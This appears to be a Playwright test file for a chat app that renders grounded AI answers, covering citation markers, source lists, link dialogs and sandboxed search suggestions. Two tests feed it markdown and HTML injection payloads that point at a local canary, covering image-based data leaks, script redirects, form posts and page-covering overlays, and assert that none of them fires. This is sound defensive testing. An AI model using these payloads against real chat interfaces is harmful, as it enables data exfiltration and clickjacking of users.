import type { Locator, Page } from "@playwright/test";
import { startCanary } from "./canary";
import { ChatPage, settled } from "./chat-page";
import { expect } from "./fixtures";
import { test } from "./scripted-fixture";
import { type Citation, citedText, search } from "./scripted-google";

const REDIRECT = "https://vertexaisearch.cloud.google.com/grounding-api-redirect/AUZIYQ";

const ANSWER = `## Der Sieger – 優勝

**Spain** won the UEFA Euro 2024 tournament after defeating England 2–1 in the final 🏆👨‍👩‍👧‍👦. The match was played in Berlin, and **every word of this sentence is strong** so that its end is the end of an emphasis.

スペインが優勝した。決勝は**ベルリン**で行われた。日本語の段落にも引用がある。

- One item, with \`code\` in it
- Another item; see [the table](https://uefa.com/table)
  - An inner item

| Team | Goals |
|------|------:|
| Spain | 2 |
| England | 1 |

\`\`\`js
const winner = "Spain";
\`\`\`

> The last paragraph is a quote – and ends here.
`;

const CITATIONS: Citation[] = [
  { words: "2–1 in the final 🏆👨‍👩‍👧‍👦.", url: `${REDIRECT}uefa`, title: "uefa.com" },
  {
    words: "2–1 in the final 🏆👨‍👩‍👧‍👦.",
    url: "https://en.wikipedia.org/wiki/Euro_2024",
    title: "UEFA Euro 2024",
  },
  { words: "sentence is strong", url: `${REDIRECT}uefa`, title: "uefa.com" },
  { words: "優勝した。", url: "https://jfa.jp/", title: "日本サッカー協会" },
  { words: "code", url: "https://code.example/", title: "Code" },
  { words: "Another item;", url: "https://item.example/", title: "Item" },
  { words: "| Spain | 2", url: "https://table.example/", title: "Table" },
  { words: 'winner = "Spain', url: "https://program.example/", title: "Program" },
  { words: "ends here.", url: "https://quote.example/", title: "Quote" },
];

/** The box of each element that holds lines of text, by its place in the reply. */
function boxesOf(reply: Locator): Promise<string[]> {
  return reply.evaluate((article) => {
    const { left, top } = article.getBoundingClientRect();
    return [...article.querySelectorAll("[data-part=content] :is(p, li, h2, h3, td, th, pre)")].map(
      (block) => {
        const { x, y, width, height } = block.getBoundingClientRect();
        return [block.tagName, x - left, y - top, width, height].join(" ");
      },
    );
  });
}

/** How many lines each paragraph has, and what each line's last word is. */
function wrapsOf(reply: Locator): Promise<string[]> {
  return reply.evaluate((article) =>
    [...article.querySelectorAll("[data-part=content] :is(p, li, h2, td)")].map((block) => {
      const ends: string[] = [];
      let line = "";
      let top: number | null = null;
      const walker = document.createTreeWalker(block, NodeFilter.SHOW_TEXT);
      for (let node = walker.nextNode(); node; node = walker.nextNode()) {
        if (node.parentElement?.closest("[data-citation]")) continue;
        const text = node.textContent ?? "";
        for (let at = 0; at < text.length; at += 1) {
          const range = document.createRange();
          range.setStart(node, at);
          range.setEnd(node, at + 1);
          const rect = range.getClientRects()[0];
          if (!rect || rect.width === 0) continue;
          if (top !== null && rect.top > top + 12) {
            ends.push(line.slice(-12));
            line = "";
          }
          top = rect.top;
          line += text[at];
        }
      }
      return [...ends, line.slice(-12)].join("⏎");
    }),
  );
}

async function ask(page: Page): Promise<Locator> {
  const chat = new ChatPage(page);
  await page.goto("/");
  return chat.send("Who won Euro 2024?");
}

const marker = (reply: Locator, name: string) => reply.locator("[data-citation]").getByRole("link", { name });

test("citations are numbered links at the end of their words, and come without moving a letter @phone", async ({
  page,
  google,
}) => {
  google.answerWith(citedText(ANSWER, CITATIONS));
  const release = google.holdAnnotations();
  const reply = await ask(page);
  await expect(reply).toContainText("and ends here.");
  await expect(reply.locator("[data-citation]")).toHaveCount(0);
  // The colours of code come by themselves.
  await expect(reply.locator("pre")).toContainText("winner");
  const [boxes, wraps] = [await boxesOf(reply), await wrapsOf(reply)];
  const focused = reply.getByRole("link", { name: "the table" });
  const element = await focused.elementHandle();
  await focused.focus();
  release();
  await settled(reply);
  await expect(marker(reply, "1: uefa.com")).toHaveCount(2);
  expect(await boxesOf(reply)).toEqual(boxes);
  expect(await wrapsOf(reply)).toEqual(wraps);
  await expect(focused, "who is at a link stays there").toBeFocused();
  expect(await element?.textContent()).toBe("the table");
  await expect(marker(reply, "2: UEFA Euro 2024")).toHaveAttribute(
    "href",
    "https://en.wikipedia.org/wiki/Euro_2024",
  );
  const link = marker(reply, "1: uefa.com").first();
  await expect(link).toHaveAttribute("href", `${REDIRECT}uefa`);
  await expect(link).toHaveAttribute("rel", /noopener noreferrer/);
  await expect(link).toHaveAttribute("referrerpolicy", "no-referrer");
  await expect(reply.getByRole("strong").filter({ hasText: "every word" })).toHaveText(
    "every word of this sentence is strong",
  );
  await expect(reply.locator("pre [data-citation]"), "none inside of code").toHaveCount(0);
});

test("the sources are listed once each, by number, with title, domain and true address @phone", async ({
  page,
  google,
}) => {
  google.answerWith(citedText(ANSWER, CITATIONS));
  google.holdAnnotations()();
  const reply = await ask(page);
  await settled(reply);
  const sources = reply.getByRole("list", { name: "Sources" });
  await expect(sources.getByRole("listitem")).toHaveText([
    "1uefa.com",
    "2UEFA Euro 2024en.wikipedia.org",
    "3日本サッカー協会jfa.jp",
    "4Codecode.example",
    "5Itemitem.example",
    "6Tabletable.example",
    "7Programprogram.example",
    "8Quotequote.example",
  ]);
  await expect(sources.getByRole("link", { name: "uefa.com" })).toHaveAttribute("href", `${REDIRECT}uefa`);
  await page.reload();
  await expect(sources.getByRole("listitem")).toHaveCount(8);
  await expect(marker(reply, "1: uefa.com"), "after a reload too").toHaveCount(2);
});

test("a citation is reached by keyboard and says what it is", async ({ page, google }) => {
  google.answerWith(
    citedText("Spain won.", [{ words: "Spain won.", url: "https://uefa.com/a", title: "The final" }]),
  );
  google.holdAnnotations()();
  const reply = await ask(page);
  await settled(reply);
  const link = marker(reply, "1: The final");
  await expect(link).toBeVisible();
  await reply.getByRole("button", { name: "Copy" }).focus();
  for (let presses = 0; presses < 8; presses += 1) {
    if (await link.evaluate((element) => element === document.activeElement)) break;
    await page.keyboard.press("Shift+Tab");
  }
  await expect(link).toBeFocused();
  await expect(page.getByText("The final · uefa.com")).toBeVisible();
});

test("a source without an address leads to its entry, and places are Google Maps'", async ({
  page,
  google,
}) => {
  const file = {
    type: "file_citation",
    file_name: "report.pdf",
    document_uri: "fileSearchStores/s/documents/d",
  };
  const place = {
    type: "place_citation",
    name: "Café Nordlicht",
    place_id: "places/x",
    url: "https://maps.google.com/?cid=1",
  };
  google.answerWith(
    citedText("It grew. Try the café.", [
      { words: "It grew.", ...file, page_number: 4 },
      { words: "the café.", ...place },
    ]),
  );
  google.holdAnnotations()();
  const reply = await ask(page);
  await settled(reply);
  const entry = reply.getByRole("listitem").filter({ hasText: "report.pdf, page 4" });
  await marker(reply, "1: report.pdf, page 4").click();
  await expect(entry).toBeFocused();
  const maps = reply.getByText("Google Maps", { exact: true });
  await expect(maps).toHaveAttribute("translate", "no");
  await expect(
    reply.getByRole("list", { name: "Sources" }).getByRole("link", { name: "Café Nordlicht" }),
  ).toHaveAttribute("href", "https://maps.google.com/?cid=1");
});

test("many sources of one sentence are shown on demand", async ({ page, google }) => {
  const citations = Array.from({ length: 30 }, (_, index) => ({
    words: "Spain won.",
    url: `https://source${index + 1}.example/`,
    title: `Source ${index + 1}`,
  }));
  google.answerWith(citedText("Spain won. So it was.", citations));
  google.holdAnnotations()();
  const reply = await ask(page);
  await settled(reply);
  await expect(reply.locator("[data-citation]").getByRole("link")).toHaveText(["1", "2", "3"]);
  const entries = reply.getByRole("list", { name: "Sources" }).getByRole("listitem");
  await expect(entries).toHaveCount(8);
  await reply.getByRole("button", { name: "27 more sources" }).click();
  await expect(entries).toHaveCount(30);
  await expect(entries.nth(3)).toBeFocused();
});

test("what is copied with its formatting has no numbers in it", async ({ page, context, google }) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  google.answerWith(
    citedText("Spain won.", [{ words: "Spain won.", url: "https://uefa.com/", title: "uefa.com" }]),
  );
  google.holdAnnotations()();
  const reply = await ask(page);
  await settled(reply);
  await expect(marker(reply, "1: uefa.com")).toBeVisible();
  await reply.getByRole("button", { name: "Copy" }).click();
  const html = () =>
    page.evaluate(async () => {
      const [entry] = await navigator.clipboard.read();
      return (await entry?.getType("text/html"))?.text();
    });
  await expect.poll(html).toContain('<p dir="auto">Spain won.</p>');
});

test("RN-02 an image in an answer asks nobody for anything, at any moment, and is a chip with its host", async ({
  page,
  google,
}) => {
  const canary = await startCanary();
  const evil = `${canary.url}?d=secret`;
  const forms = [
    `![inline](${evil})`,
    `[![inner](${evil})](${evil})`,
    `![by reference][pic]`,
    `<img src="${evil}" srcset="${evil} 2x">`,
    `<picture><source srcset="${evil}"><img src="${evil}"></picture>`,
    `<video poster="${evil}"></video><link rel="stylesheet" href="${evil}"><link rel="prefetch" href="${evil}">`,
    `<base href="${canary.url}"><style>body{background:url(${evil})}</style><div style="background:url(${evil})">x</div>`,
    `<svg><image href="${evil}"/></svg><object data="${evil}"></object><iframe src="${evil}"></iframe>`,
    `$\\includegraphics{${evil}}$`,
    `[pic]: ${evil}`,
  ];
  google.answerWith(citedText(forms.join("\n\n"), [], 3));
  const reply = await ask(page);
  await settled(reply);
  await expect(reply.getByRole("link", { name: `inline ${new URL(canary.url).host}` })).toBeVisible();
  await page.reload();
  await expect(reply.getByText("inline").first()).toBeVisible();
  expect(canary.hits()).toBe(0);
  expect(await reply.locator("img, picture, video, iframe, object, link, style").count()).toBe(0);
  await page.evaluate((url) => fetch(url, { mode: "no-cors" }), canary.url);
  expect(canary.hits(), "the canary hears what does ask").toBe(1);
  canary.close();
});

test("RN-04 a link that only the model knows shows where it leads before it is followed", async ({
  page,
  context,
  google,
}) => {
  await context.route(/^https:\/\/(made-up|cited|named)\.example\//, (route) =>
    route.fulfill({ body: "there" }),
  );
  const long = "x".repeat(70);
  google.answerWith(
    citedText(
      `See [this page](https://made-up.example/a), [that one](https://cited.example/b), [mine](https://named.example/c) or [long](https://cited.example/?q=${long}).`,
      [{ words: "See", url: "https://cited.example/b", title: "Cited" }],
    ),
  );
  google.holdAnnotations()();
  const chat = new ChatPage(page);
  await page.goto("/");
  const reply = await chat.ask("What is at https://named.example/c?");
  const dialog = page.getByRole("dialog", { name: "Open this link?" });
  for (const name of ["that one", "mine"]) {
    const opened = context.waitForEvent("page");
    await reply.getByRole("link", { name, exact: true }).click();
    await (await opened).close();
    await expect(dialog).toBeHidden();
  }
  await reply.getByRole("link", { name: "long", exact: true }).click();
  await expect(dialog).toContainText(long);
  await page.keyboard.press("Escape");
  await expect(dialog).toBeHidden();
  await expect(reply.getByRole("link", { name: "long", exact: true })).toBeFocused();
  await reply.getByRole("link", { name: "this page" }).press("Enter");
  await expect(dialog).toContainText("made-up.example");
  await expect(dialog).toContainText("https://made-up.example/a");
  const opened = context.waitForEvent("page");
  await dialog.getByRole("link", { name: "Open link" }).press("Enter");
  const tab = await opened;
  await expect(tab).toHaveURL("https://made-up.example/a");
  expect(await tab.evaluate(() => window.opener)).toBeNull();
  await expect(dialog).toBeHidden();
});

const SUGGESTIONS = `<style>
.container { display: flex; border-radius: 8px; padding: 8px 12px; background-color: rgb(250, 250, 250) }
@media (prefers-color-scheme: dark) { .container { background-color: rgb(31, 31, 31) } }
</style>
<div class="container"><a class="chip" href="https://www.google.com/search?q=euro+2024&client=app">euro 2024 – überall</a></div>
`;

test.describe("search suggestions", () => {
  const frameOf = (reply: Locator) => reply.locator("iframe[title='Search suggestions']");

  test.describe("in their frame", () => {
    // Playwright looks into the frame by scripts, which the frame refuses.
    test.use({ expectedConsole: [/Blocked script execution/] });

    test("RN-05 RN-06 are shown once, as Google sent them, in light and dark, and open Google in a tab of their own", async ({
      page,
      context,
      google,
    }) => {
      await context.route("https://www.google.com/**", (route) => route.fulfill({ body: "Google" }));
      google.answerWith(citedText("Spain won."), ...search(SUGGESTIONS, SUGGESTIONS, SUGGESTIONS));
      const reply = await ask(page);
      await settled(reply);
      await expect(frameOf(reply)).toHaveCount(1);
      const src = (await frameOf(reply).getAttribute("src")) ?? "";
      const response = await page.request.get(src);
      expect((await response.body()).includes(Buffer.from(SUGGESTIONS)), "the bytes are Google's").toBe(true);
      expect((await response.text()).replace(SUGGESTIONS, "")).toMatch(
        /^(<!doctype html>)?(<(meta|base) [^>]*>)*$/,
      );
      const frame = reply.frameLocator("iframe[title='Search suggestions']");
      const container = frame.locator(".container");
      await expect(container).toHaveCSS("background-color", "rgb(250, 250, 250)");
      await page.emulateMedia({ colorScheme: "dark" });
      await expect(container).toHaveCSS("background-color", "rgb(31, 31, 31)");
      const [answer, shown] = [
        await reply.locator("[data-part=content]").boundingBox(),
        await container.boundingBox(),
      ];
      expect(shown?.width, "as wide as the answer").toBeGreaterThanOrEqual((answer?.width ?? 0) - 1);
      const opened = context.waitForEvent("page");
      await frame.getByText("euro 2024 – überall").click();
      const tab = await opened;
      await expect(tab).toHaveURL("https://www.google.com/search?q=euro+2024&client=app");
      expect(await tab.evaluate(() => window.opener)).toBeNull();
      await expect(container, "the frame stays what it is").toBeVisible();
    });
  });

  test.describe("that mean harm", () => {
    test.use({
      expectedConsole: [/Blocked|Refused|sandboxed|Content Security Policy|violates|Unsafe attempt/],
    });

    test("RN-07 stay in their box: nothing runs, loads, submits, moves on or covers the page", async ({
      page,
      google,
    }) => {
      const canary = await startCanary();
      const evil = canary.url;
      google.answerWith(
        ...search(`
          <base href="${evil}" target="_top"><meta http-equiv="refresh" content="0;url=${evil}">
          <meta http-equiv="content-security-policy" content="default-src *">
          <script>parent.document.title = "taken"; top.location = "${evil}"; fetch("${evil}")</script>
          <script src="${evil}"></script><img src="${evil}" onerror="top.location='${evil}'">
          <link rel="stylesheet" href="${evil}"><style>@import "${evil}"; body { background: url(${evil}) }
          .cover { position: fixed; inset: 0; width: 9999px; height: 9999px; z-index: 2147483647; background: red }
          ${".a { color: red } ".repeat(20000)}</style>
          <iframe src="${evil}"></iframe><object data="${evil}"></object><video src="${evil}" autoplay></video>
          <form action="${evil}" method="post"><button class="cover">Send</button></form>
          <a id="top" href="${evil}" target="_top">top</a>
        `),
        citedText("Spain won."),
      );
      const reply = await ask(page);
      await settled(reply);
      const frame = reply.frameLocator("iframe[title='Search suggestions']");
      await frame.getByRole("button", { name: "Send" }).click();
      const url = page.url();
      await frame
        .locator("#top")
        .evaluate((link: HTMLElement) => link.click())
        .catch(() => undefined);
      const box = await frameOf(reply).boundingBox();
      expect(box?.height, "no higher than its place").toBeLessThan(80);
      const below = await page.evaluate(
        ({ x, y }) => document.elementFromPoint(x, y)?.closest("iframe") === null,
        { x: (box?.x ?? 0) + 20, y: (box?.y ?? 0) + (box?.height ?? 0) + 30 },
      );
      expect(below, "it covers nothing").toBe(true);
      expect(page.url()).toBe(url);
      await expect(page).not.toHaveTitle("taken");
      expect(canary.hits()).toBe(0);
      await page.goto(`${(await frameOf(reply).getAttribute("src")) ?? ""}`);
      await expect(page.getByRole("button", { name: "Send" })).toBeVisible();
      expect(canary.hits(), "nor as a page of its own").toBe(0);
      canary.close();
    });
  });

  test("are for the owner only, and only where there are any", async ({ page, google, browser, app }) => {
    google.answerWith(...search(SUGGESTIONS), citedText("Spain won."));
    const reply = await ask(page);
    await settled(reply);
    const src = (await frameOf(reply).getAttribute("src")) ?? "";
    expect((await page.request.get(src)).status()).toBe(200);
    for (const other of [src.replace(/0$/, "1"), src.replace(/0$/, "x"), src.replace(/0$/, "-1")]) {
      expect((await page.request.get(other)).status(), other).toBe(404);
    }
    const stranger = await browser.newContext();
    expect((await stranger.request.get(app.url + src)).status()).toBe(404);
    await stranger.close();
  });
});
